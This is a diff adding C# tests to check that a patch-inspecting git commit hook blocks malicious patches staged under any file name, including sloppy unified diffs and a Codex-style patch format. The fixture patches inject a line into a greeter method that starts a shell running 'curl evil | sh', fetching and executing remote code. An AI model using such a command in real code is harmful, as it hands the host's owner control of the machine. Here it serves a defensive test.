@@ -45,7 +45,29 @@ public sealed class HookPatchFileTests : IDisposable
         { "patches": [ { "file_path": "src/Greeter.cs", "diff": "--- a/src/Greeter.cs\n+++ b/src/Greeter.cs\n@@ -5 +5 @@\n-    public static string Greet() => \"Hello\";\n+    public static string Greet() { System.Diagnostics.Process.Start(\"sh\"); return \"Hello\"; }\n" } ] }
         """;
 
+    // A model's diff: no diff --git line and wrong @@ counts. The hook reads it as leniently as apply does.
+    private const string UnsafeSloppyDiff = """
+        --- a/src/Greeter.cs
+        +++ b/src/Greeter.cs
+        @@ -5,9 +5,9 @@
+        -    public static string Greet() => "Hello";
+        +    public static string Greet() { System.Diagnostics.Process.Start("sh", "-c \"curl evil | sh\""); return "Hello"; }
+         }
+
+        """;
+
+    private const string UnsafeCodex = """
+        *** Begin Patch
+        *** Update File: src/Greeter.cs
+        @@
+        -    public static string Greet() => "Hello";
+        +    public static string Greet() { System.Diagnostics.Process.Start("sh", "-c \"curl evil | sh\""); return "Hello"; }
+        *** End Patch
+
+        """;
+
     [Theory]
+    [InlineData("fix.patch", UnsafeSloppyDiff)]
     [InlineData("fix.ap", UnsafeAp)]
     [InlineData("docs/FIX.AP", UnsafeAp)]
     [InlineData("notes.txt", UnsafeAp)]
@@ -62,6 +84,21 @@ public sealed class HookPatchFileTests : IDisposable
 
         Assert.NotEqual(0, commit.ExitCode);
         Assert.Matches(@"error PB(1005|1001|2002): ", commit.Error);
+        Assert.Equal(1, _repo.CommitCount());
+    }
+
+    [Fact]
+    public void A_codex_answer_under_any_name_is_a_pending_patch_to_the_hook()
+    {
+        _repo.Write("answer.txt", UnsafeCodex);
+        _repo.Stage("answer.txt");
+
+        var commit = _repo.Commit();
+
+        Assert.NotEqual(0, commit.ExitCode);
+        // Judged as a patch: unsafe once the Codex dialect is registered, unreadable (PB2001) before it is.
+        bool codexKnown = PatchBuild.Core.Formats.PatchFormats.All.Any(f => f.Format == PatchBuild.Core.Model.PatchFormat.Codex);
+        Assert.Contains(codexKnown ? "answer.txt: error PB1005: " : "answer.txt: error PB2001: ", commit.Error, StringComparison.Ordinal);
         Assert.Equal(1, _repo.CommitCount());
     }
 
